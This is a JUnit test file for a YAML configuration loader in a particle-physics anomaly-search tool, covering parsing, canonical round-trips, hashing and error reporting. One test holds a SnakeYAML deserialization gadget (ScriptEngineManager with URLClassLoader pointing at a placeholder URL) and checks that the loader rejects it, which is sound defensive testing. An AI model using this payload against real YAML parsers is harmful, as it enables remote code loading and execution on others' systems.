package org.anomalysearch.io.config;

import static org.junit.jupiter.api.Assertions.*;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.anomalysearch.core.AnalysisException;
import org.anomalysearch.core.InvalidConfigException;
import org.anomalysearch.core.InvalidInputException;
import org.anomalysearch.core.config.AnalysisConfig;
import org.anomalysearch.core.provenance.Hashing;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigLoaderTest {

    static final String YAML = """
            schemaVersion: 1
            seed: 2024
            input:
              path: data/events.h5
              format: lhco-particles
            selection:
              leadingJetPtMin: 1200
            regions:
              signalLo: 3300
              signalHi: 3700
              lowSidebandWidth: 200
              highSidebandWidth: 200
            features: [mjj, mj1, dmj, tau21_j1, tau21_j2, tau32_j1]
            generate:
              nBackground: 1000000
              nSignal: 1000
              mA: 3500.0
            """;

    @Test
    void loadsTypedConfigAndRoundTripsCanonicalYaml(@TempDir Path dir) throws IOException {
        Path f = dir.resolve("analysis.yaml");
        Files.writeString(f, YAML, StandardCharsets.UTF_8);
        AnalysisConfig c = ConfigLoader.load(f);
        assertEquals(2024, c.seed());
        assertEquals("lhco-particles", c.input().format());
        assertEquals(200, c.regions().lowSidebandWidth());
        assertEquals(1_000_000, c.generate().nBackground());
        assertEquals(6, c.features().size());

        Path out = dir.resolve("canonical.yaml");
        String hash = ConfigWriter.write(c, out);
        assertEquals(Hashing.sha256(out), hash);
        assertEquals(hash, ConfigWriter.sha256(c));
        AnalysisConfig back = ConfigLoader.load(out);
        assertEquals(c, back);
        assertEquals(hash, ConfigWriter.sha256(back));
        String text = Files.readString(out);
        assertTrue(text.startsWith("schemaVersion: 1\nseed: 2024\n"), text);
        assertTrue(text.contains("leadingJetAbsEtaMax: 2.5"), "defaults are written out");
        assertFalse(text.contains("\r"));
    }

    @Test
    void equalConfigsHashEquallyDifferentOnesDont() {
        AnalysisConfig a = ConfigLoader.parse("seed: 5\n", "a");
        AnalysisConfig b = ConfigLoader.parse("selection: {nJetsMin: 2}\nseed: 5\n", "b");
        assertEquals(ConfigWriter.sha256(a), ConfigWriter.sha256(b));
        assertNotEquals(ConfigWriter.sha256(a), ConfigWriter.sha256(a.withSeed(6)));
        assertEquals(64, ConfigWriter.sha256(a).length());
    }

    @Test
    void errorsNameTheFileAndTheKey(@TempDir Path dir) throws IOException {
        Path f = dir.resolve("bad.yaml");
        Files.writeString(f, "selection:\n  leadingJetPt: 1000\n");
        InvalidConfigException e = assertThrows(InvalidConfigException.class, () -> ConfigLoader.load(f));
        assertTrue(e.getMessage().contains(f.toString()) && e.getMessage().contains("selection.leadingJetPt"),
                e.getMessage());
        assertTrue(e.hint().contains("leadingJetPtMin"));

        Files.writeString(f, "seed: [1, 2\n");
        InvalidInputException syntax = assertThrows(InvalidInputException.class, () -> ConfigLoader.load(f));
        assertEquals(f.toString(), syntax.source());

        Files.writeString(f, "seed: 1\nseed: 2\n");
        assertThrows(InvalidInputException.class, () -> ConfigLoader.load(f), "duplicate keys are refused");

        Files.writeString(f, "- a\n- b\n");
        AnalysisException list = assertThrows(InvalidInputException.class, () -> ConfigLoader.load(f));
        assertTrue(list.getMessage().contains("mapping"));

        InvalidInputException missing = assertThrows(InvalidInputException.class,
                () -> ConfigLoader.load(dir.resolve("nope.yaml")));
        assertTrue(missing.getMessage().contains("nope.yaml"));
    }

    @Test
    void refusesArbitraryTypes() {
        String evil = "seed: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n";
        InvalidInputException e = assertThrows(InvalidInputException.class, () -> ConfigLoader.parse(evil, "evil.yaml"));
        assertTrue(e.getMessage().startsWith("evil.yaml"), e.getMessage());
    }

    @Test
    void emptyFileGivesDefaults() {
        assertEquals(AnalysisConfig.defaults(), ConfigLoader.parse("", "empty.yaml"));
        assertEquals(AnalysisConfig.defaults(), ConfigLoader.parse("# only a comment\n", "c.yaml"));
    }
}
